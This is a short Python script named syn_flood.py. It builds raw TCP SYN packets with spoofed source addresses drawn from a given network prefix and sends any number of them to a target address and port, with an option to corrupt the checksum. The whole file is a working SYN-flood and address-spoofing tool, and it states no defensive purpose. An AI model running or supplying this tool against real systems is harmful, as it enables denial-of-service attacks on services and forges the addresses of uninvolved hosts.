"""Sends SYNs of clients that do not exist, and never anything else.

    syn_flood.py NET DESTINATION PORT COUNT [damaged]

NET are the first three numbers of their addresses. Those that are damaged have a wrong checksum.
"""

import socket
import struct
import sys


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def syn(source, destination, source_port, port, damage):
    addresses = socket.inet_aton(source) + socket.inet_aton(destination)
    options = struct.pack("!BBH", 2, 4, 1460)
    tcp = struct.pack("!HHIIBBHHH", source_port, port, source_port * 7919, 0, 6 << 4, 2, 64240, 0,
                      0) + options
    pseudo = addresses + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp) ^ damage) + tcp[18:]
    # The kernel writes the length and the checksum of the IP header.
    return struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0) + addresses + tcp


def main():
    net, destination, port, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    damage = 0x0101 if "damaged" in sys.argv[5:] else 0
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for number in range(count):
        packet = syn(f"{net}.{number % 100 + 100}", destination, 20000 + number, port, damage)
        out.sendto(packet, (destination, 0))


if __name__ == "__main__":
    main()
